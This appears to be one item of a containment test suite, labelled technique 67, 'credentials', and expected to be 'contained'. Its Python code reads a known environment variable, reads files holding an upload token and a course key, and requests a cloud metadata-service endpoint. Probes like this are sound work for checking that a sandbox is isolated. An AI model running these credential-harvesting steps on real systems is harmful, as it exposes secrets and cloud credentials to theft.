# /// technique
# number = ["67"]
# title = "credentials"
# how = "Tokens are looked for in the environment, in settings files, and at a metadata service."
# wanted = "contained"
# ///

# %% own
import urllib.request

print({name: value for name, value in os.environ.items() if name == KNOWN["variable"]})
loot(KNOWN["files"]["an upload token"])
loot(KNOWN["files"]["the course key"])
attempt(
    "reach a metadata service",
    lambda: urllib.request.urlopen("http://%s:%d/latest/meta-data" % tuple(KNOWN["tcp"]), timeout=2),
)
